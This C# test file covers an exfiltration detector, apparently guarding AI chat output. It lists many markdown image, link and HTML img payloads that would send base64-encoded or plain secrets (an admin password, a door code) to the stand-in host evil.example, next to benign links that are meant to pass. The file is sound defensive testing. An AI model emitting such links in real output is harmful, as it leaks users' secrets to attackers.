using Cencori.Edge.Policies.Detectors;

namespace Cencori.Edge.Tests.Policies.Detectors;

public sealed class ExfiltrationDetectorTests
{
    private const string Data = "VGhlIHBhc3N3b3JkIG9mIHRoZSBhZG1pbiBpcyBodW50ZXIyLCBhbmQgdGhlIGNvZGUgb2YgdGhlIGRvb3IgaXMgMTIzNA";
    private const string Words = "the+password+of+the+admin+is+hunter2+and+the+code+of+the+door+is+1234+do+not+tell";

    private readonly ExfiltrationDetector _detector = new();

    [Theory]
    [InlineData("![logo](https://evil.example/x.png?d=" + Data + ")")]
    [InlineData("![](https://evil.example/" + Data + ")")]
    [InlineData("![](https://evil.example/" + Data + ".png)")]
    [InlineData("[click here](http://evil.example?q=" + Words + ")")]
    [InlineData("[a](https://evil.example/p?a=" + Words + " \"a title\")")]
    [InlineData("![](<https://evil.example/?q=" + Data + ">)")]
    [InlineData("![x](//evil.example/?" + Data + ")")]
    [InlineData("![](https://" + Data + ".evil.example/x.png)")]
    [InlineData("[1]: https://evil.example/?q=" + Data)]
    [InlineData("<img src=\"https://evil.example/x.png?d=" + Data + "\" width=1>")]
    [InlineData("<IMG alt='x' SRC=https://evil.example/x.png?d=" + Data + ">")]
    [InlineData("![](https://evil.example/?utm_source=" + Data + Data + ")")]
    [InlineData("![](https://evil.example/the%20password%20of%20the%20admin%20is%20hunter2%20and%20the%20code%20of%20the%20door%20is%201234)")]
    public void The_whole_link_is_found(string link)
    {
        Assert.Equal([link], _detector.Texts($"Here it is: {link}\nand more (text) [1]."));
        Splits.Hold(_detector, $"Look! [no] {link}\n! {link} [x](y) ]: {link} <im [");
    }

    [Theory]
    [InlineData("[docs](https://learn.microsoft.com/en-us/dotnet/api/system.text.json.jsonserializer.deserializeasync?view=net-10.0#system-text-json)")]
    [InlineData("[news](https://www.example.com/2026/05/14/how-the-city-council-decided-to-rebuild-the-old-bridge-over-the-river)")]
    [InlineData("[code](https://github.com/dotnet/runtime/blob/2f6d2b9a1c6c0a9f5f3f0d4b7c1e8a9d0b3c5e7f/src/libraries/System.Text.Json/src/System.Text.Json.csproj#L10-L200)")]
    [InlineData("![badge](https://img.shields.io/badge/license-MIT-green.svg?style=flat-square)")]
    [InlineData("[shop](https://shop.example/item/12345?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale-2026&utm_content=header-image)")]
    [InlineData("![image](https://oaidalle.blob.core.windows.net/private/org-1/img-2.png?st=2026-01-01T10%3A00%3A00Z&se=2026-01-01T12%3A00%3A00Z&sp=r&sv=2024-08-04&sr=b&rscd=inline&rsct=image/png&skoid=475fd488-6c59-44a5-9aa9-31c4db451bea&sig=d0lQ2b4cYb8z2P1xQmXnq5w4V9y7c6b5a4d3e2f1g0h%3D)")]
    [InlineData("[wiki](https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD%E5%BA%81)")]
    [InlineData("[id](https://app.example/t/3f2b8c1e-5d4a-4f6b-9c8d-7e6f5a4b3c2d/e/9c8d7e6f-5a4b-4c2d-8f2b-8c1e5d4a4f6b)")]
    [InlineData("[here](#a-very-long-heading-that-is-in-this-document-and-has-more-than-sixty-four-characters-1234)")]
    [InlineData("[file](src/Folder/VeryLongFileNameThatNobodyWouldEverWriteByHand0123456789AndMoreOfItSoThatItIsLong.cs)")]
    [InlineData("![data](data:image/png;base64," + Data + Data + ")")]
    [InlineData("<img src=\"/images/logo.png\" alt=\"https\">")]
    [InlineData("values[0]: https and [x]: y")]
    public void Ordinary_links_are_not(string link)
    {
        Assert.Empty(_detector.Find($"Here it is: {link}\nand more."));
        Splits.Hold(_detector, $"Here: {link}\nand {link}");
    }

    [Fact]
    public void An_image_within_a_link_is_found() =>
        Assert.Equal([$"![x](https://evil.example/?q={Data})"], _detector.Texts($"[![x](https://evil.example/?q={Data})](https://example.com)"));

    [Fact]
    public void A_link_is_found_as_far_as_a_stream_may_hold_it()
    {
        var text = "![](https://evil.example/?q=" + new string('x', 5_000);
        Assert.Equal([new Finding(0, ExfiltrationDetector.MaxLength)], _detector.Find(text));
        Assert.Equal(0, _detector.Open(text));
        Assert.Equal(2_000, _detector.Open(text.AsSpan(0, 2_000)));
    }
}
